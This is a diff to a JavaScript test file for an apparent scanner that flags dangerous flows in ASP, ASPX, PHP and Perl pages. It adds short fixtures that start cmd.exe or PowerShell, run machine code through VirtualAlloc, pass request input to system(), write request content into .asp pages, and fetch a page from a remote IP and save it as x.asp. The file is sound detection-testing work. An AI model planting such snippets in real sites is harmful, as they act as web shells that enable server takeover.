@@ -48,6 +48,78 @@ for (const [what, page, rules] of [
   ['an object that the page names', `<% Set a = CreateObject("ADODB.Recordset") : b = ${R}("c") %>`, []],
   ['a question to WMI', cs(`var s = new ManagementObjectSearcher("select * from Win32_Process"); w(${R}["a"]);`), []],
   ['a list of what the request brings', cs(`var list = new string[] { ${R}["a"] }; Response.Write(list[0]);`), []],
+  // what a page does by itself
+  ['an interpreter, by itself', cs(`Process.Start("cmd.exe", "/c whoami");`), ['flow-starts-interpreter']],
+  [
+    'an interpreter with blanks before its name, by itself, in Basic',
+    `<%@ Page Language="VB" %><% Dim p As New Process() : p.StartInfo.FileName = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" : p.Start() %>`,
+    ['flow-starts-interpreter'],
+  ],
+  ['another program, by itself', cs(`Process.Start("ffmpeg.exe", "-i a.mov");`), []],
+  [
+    'machine code',
+    cs(
+      `[DllImport("kernel32")] static extern IntPtr VirtualAlloc(IntPtr a, uint b, uint c, uint d); byte[] b = {1}; CreateThread(z, z, m, z, 0, ref t);`,
+    ),
+    ['flow-runs-machine-code'],
+  ],
+  ['a thread of .NET', cs(`var t = new Thread(Run); t.Start();`), []],
+  [
+    'a page that is written, by itself',
+    cs(`File.WriteAllText(Server.MapPath("a.aspx"), "x");`),
+    ['flow-writes-page-alone'],
+  ],
+  ['a text that is written, by itself', cs(`File.WriteAllText(Server.MapPath("a.txt"), "x");`), []],
+  // connections
+  ['a connection to a host of the request', cs(`var c = new TcpClient(${R}["h"], 80);`), ['flow-connects']],
+  ['a connection to a host of the page', cs(`var c = new TcpClient("mail", 25); w(${R}["h"]);`), []],
+  // files
+  [
+    'a file through FileInfo',
+    `<%@ Page Language="C#" %><asp:TextBox id="T1" runat="server" /><script runat="server">void b() { var f = new FileInfo(T1.Text); var w = f.CreateText(); }</script>`,
+    ['flow-writes-where-asked'],
+  ],
+  [
+    'a page with what the request brings',
+    `<% Set f = fso.CreateTextFile(Server.MapPath("x.asp"))\r\nf.Write ${R}("c") %> only jpg,gif,png`,
+    ['flow-writes-page'],
+  ],
+  [
+    'the same in a part of an application',
+    `<!--#include file="conn.asp"--><% Set f = fso.CreateTextFile(Server.MapPath("x.asp"))\r\nf.Write ${R}("c") %>`,
+    ['flow-lead'],
+  ],
+  [
+    'the same in a library',
+    `<% Function save(name)\r\nSet f = fso.CreateTextFile(Server.MapPath("x.asp"))\r\nf.Write ${R}("c")\r\nEnd Function %>`,
+    ['flow-lead'],
+  ],
+  [
+    'a page out of another server, in a block of With',
+    `<% http.Open "GET", "http://192.0.2.1/a", False\r\nx = http.responseBody\r\nWith Server.CreateObject("ADODB.Stream")\r\n.Write x\r\n.SaveToFile Server.MapPath("x.asp"), 2\r\nEnd With %>`,
+    ['flow-drops-page'],
+  ],
+  [
+    'a name that two procedures have',
+    `<% Sub a(name)\r\nResponse.Write name\r\nEnd Sub\r\nSub b(name)\r\nfso.CreateTextFile name\r\nEnd Sub\r\na ${R}("n")\r\nb "x" %>`,
+    [],
+  ],
+  [
+    'a folder of the request or of the site',
+    `<% Path = Trim(${R}("p"))\r\nIf Path = "" Then Path = Server.MapPath("/")\r\nSet f = fso.GetFolder(Path) %>`,
+    ['flow-lists-folder'],
+  ],
+  // languages
+  ['a value of a row', `<%@ Control Language="C#" %><%# Eval("a") + ${R}.QueryString["b"] %>`, []],
+  ['a script control', `<% Set s = CreateObject("ScriptControl")\r\nx = s.Eval(${R}("a")) %>`, ['flow-evaluates']],
+  ['PHP', `<?php $a = $_POST["x"]; system($a); ?>`, ['flow-runs-script']],
+  ['PHP that looks', `<?php $a = $_POST["x"]; echo htmlspecialchars($a); ?>`, []],
+  ['Perl', `<%@ Language="PerlScript" %><% my $c = $${R}->Form("c")->Item; system($c); %>`, ['flow-runs-script']],
+  [
+    'tables that are opened beside a client of HTTP',
+    `<% Set h = CreateObject("MSXML2.XMLHTTP")\r\nrs.Open "select a from b where c=" & ${R}("c"), conn, 1, 1 %>`,
+    [],
+  ],
   // uploads, without a directive, in either language
   [
     'an upload to where the request says, in C#',
@@ -72,12 +144,12 @@ for (const [what, page, rules] of [
   [
     'an upload into a folder of the application',
     cs(`var f = ${R}.Files[0]; f.SaveAs(Server.MapPath("~/uploads/" + f.FileName));`),
-    [],
+    ['flow-lead'],
   ],
   [
     'an upload whose kind is looked at',
     cs(`var f = ${R}.Files[0]; if (Path.GetExtension(f.FileName) == ".png") f.SaveAs(Server.MapPath(f.FileName));`),
-    [],
+    ['flow-lead'],
   ],
   // databases
   [
